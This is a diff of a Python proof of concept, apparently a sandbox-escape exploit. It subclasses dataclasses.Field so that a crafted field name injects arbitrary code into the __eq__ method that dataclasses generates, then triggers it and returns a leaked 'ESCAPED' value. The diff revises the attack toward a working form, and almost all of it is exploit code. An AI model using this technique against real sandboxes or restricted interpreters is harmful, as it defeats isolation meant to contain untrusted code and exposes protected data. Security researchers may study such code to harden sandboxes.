@@ -22,20 +22,23 @@ def leak(value):
 class Field(dataclasses.Field):
     @property
     def name(self):
-        return "x, *, y=" + CODE
+        return "x, " + CODE
 
     @name.setter
     def name(self, value):
         pass
 
 
+class Plain:
+    x = 1
+
+
 def attack():
     unset = dataclasses.MISSING
-    try:
 
-        @dataclasses.dataclass(repr=False, eq=False, match_args=False)
-        class Evil:
-            x: int = Field(unset, unset, False, False, None, False, {}, False)
-    except TypeError:
-        pass
+    class Evil:
+        x: int = Field(unset, unset, False, False, None, True, {}, False)
+
+    dataclasses.dataclass(init=False, repr=False, match_args=False)(Evil)
+    Evil.__eq__(Plain(), Plain())
     return "ESCAPED: " + found[0]
